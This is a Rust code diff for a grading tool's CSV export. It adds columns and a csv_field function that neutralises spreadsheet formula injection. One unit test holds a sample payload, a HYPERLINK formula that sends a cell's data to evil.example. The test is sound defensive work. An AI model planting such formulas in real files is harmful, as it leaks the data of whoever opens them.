@@ -412,6 +412,7 @@ impl NotGraded {
         let (headline, submission_at_fault) = match error.code {
             ErrorCode::InvalidDesign | ErrorCode::GraphTooLarge => ("the design is invalid", true),
             ErrorCode::CheckTooLarge => ("the design is too large to check", true),
+            ErrorCode::ScenarioMismatch => ("the export is for another scenario", true),
             // The grader's script names the scenario, not the student.
             ErrorCode::UnknownScenario => ("the scenario is unknown", false),
             ErrorCode::InvalidRequest | ErrorCode::MalformedJson => ("the item is not valid", true),
@@ -529,19 +530,26 @@ pub fn with_notes(mut result: Json, notes: &[String]) -> Json {
 #[derive(Clone, Debug, Default, PartialEq)]
 pub struct CsvRow {
     pub student: String,
+    /// The name the student gave (empty when they gave none).
+    pub display_name: String,
     pub scenario: String,
     pub score: Option<u32>,
     pub max_score: Option<u32>,
     pub passed: bool,
+    /// The requirements missed; empty when nothing was checked (`error` says why).
     pub missed: Vec<String>,
     pub submission_id: String,
     pub submitted_at: String,
     pub error: String,
+    /// What the grader should know about a graded item (an export of another version of
+    /// the scenario); empty otherwise.
+    pub note: String,
 }
 
 /// The CSV's header line's fields.
-pub const CSV_HEADER: [&str; 9] = [
+pub const CSV_HEADER: [&str; 11] = [
     "student",
+    "display_name",
     "scenario",
     "score",
     "max_score",
@@ -550,6 +558,7 @@ pub const CSV_HEADER: [&str; 9] = [
     "submission_id",
     "submitted_at",
     "error",
+    "note",
 ];
 
 impl CsvRow {
@@ -566,10 +575,11 @@ impl CsvRow {
             .unwrap_or_default()
     }
 
-    fn fields(&self) -> [String; 9] {
+    fn fields(&self) -> [String; 11] {
         let number = |n: Option<u32>| n.map(|n| n.to_string()).unwrap_or_default();
         [
             self.student.clone(),
+            self.display_name.clone(),
             self.scenario.clone(),
             number(self.score),
             number(self.max_score),
@@ -578,12 +588,13 @@ impl CsvRow {
             self.submission_id.clone(),
             self.submitted_at.clone(),
             self.error.clone(),
+            self.note.clone(),
         ]
     }
 }
 
-/// Rows as CSV (RFC 4180): a header line, then one line per row, each ended by CRLF; a field
-/// with a comma, a double quote, a CR or an LF is quoted, its quotes doubled.
+/// Rows as CSV (RFC 4180): a header line, then one line per row, each ended by CRLF; each
+/// field is written by [`csv_field`].
 pub fn csv(rows: &[CsvRow]) -> String {
     let mut out = String::new();
     csv_line(&mut out, CSV_HEADER.iter().map(|h| h.to_string()));
@@ -593,7 +604,8 @@ pub fn csv(rows: &[CsvRow]) -> String {
     out
 }
 
-/// Any table as CSV, quoted as [`csv`] quotes: the header line, then one line per row.
+/// Any table as CSV, each field written by [`csv_field`]: the header line, then one line per
+/// row.
 pub fn csv_table(header: &[&str], rows: impl IntoIterator<Item = Vec<String>>) -> String {
     let mut out = String::new();
     csv_line(&mut out, header.iter().map(|h| h.to_string()));
@@ -608,15 +620,32 @@ fn csv_line(out: &mut String, fields: impl Iterator<Item = String>) {
         if i > 0 {
             out.push(',');
         }
-        if field.contains([',', '"', '\r', '\n']) {
-            out.push('"');
-            out.push_str(&field.replace('"', "\"\""));
-            out.push('"');
-        } else {
-            out.push_str(&field);
-        }
+        csv_field(out, &field);
     }
     out.push_str("\r\n");
+}
+
+/// The characters that make a spreadsheet read a cell as a formula when the cell starts with
+/// one (`=`, `+`, `-`, `@`), or that some spreadsheets skip before reading one (tab, CR).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// One field of every CSV export. Students choose their display names and graders' rosters
+/// choose ids, so a field may start like a formula (`=HYPERLINK(…)`), which Excel, LibreOffice
+/// and Google Sheets would run when the file is opened. Such a field is written as text, the
+/// way OWASP recommends: a single quote before it, and the whole quoted. Otherwise RFC 4180: a
+/// field with a comma, a double quote, a CR or an LF is quoted, its quotes doubled.
+pub fn csv_field(out: &mut String, field: &str) {
+    let formula = field.starts_with(FORMULA_STARTS);
+    if formula || field.contains([',', '"', '\r', '\n']) {
+        out.push('"');
+        if formula {
+            out.push('\'');
+        }
+        out.push_str(&field.replace('"', "\"\""));
+        out.push('"');
+    } else {
+        out.push_str(field);
+    }
 }
 
 #[cfg(test)]
@@ -646,10 +675,33 @@ mod tests {
         ];
         assert_eq!(
             csv(&rows),
-            "student,scenario,score,max_score,passed,missed,submission_id,submitted_at,error\r\n\
-             ada,safe-retry,3,3,true,,,,\r\n\
-             \"o\"\"brien, bob\",safe-retry,0,3,false,a;b,,,\"line one\nline two\"\r\n"
+            "student,display_name,scenario,score,max_score,passed,missed,submission_id,submitted_at,error,note\r\n\
+             ada,,safe-retry,3,3,true,,,,,\r\n\
+             \"o\"\"brien, bob\",,safe-retry,0,3,false,a;b,,,\"line one\nline two\",\r\n"
         );
+    }
+
+    #[test]
+    fn a_field_that_starts_like_a_formula_is_written_as_quoted_text() {
+        let written = |field: &str| {
+            let mut out = String::new();
+            csv_field(&mut out, field);
+            out
+        };
+        assert_eq!(
+            written("=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Open\")"),
+            "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Open\"\")\""
+        );
+        for start in ["+", "-", "@", "\t", "\r"] {
+            assert_eq!(written(&format!("{start}1")), format!("\"'{start}1\""));
+        }
+        // Only the first character counts: a formula sign inside a field is plain text.
+        assert_eq!(written("a=b"), "a=b");
+        assert_eq!(
+            written("2026-01-12T09:30:00.000Z"),
+            "2026-01-12T09:30:00.000Z"
+        );
+        assert_eq!(written(""), "");
     }
 
     #[test]
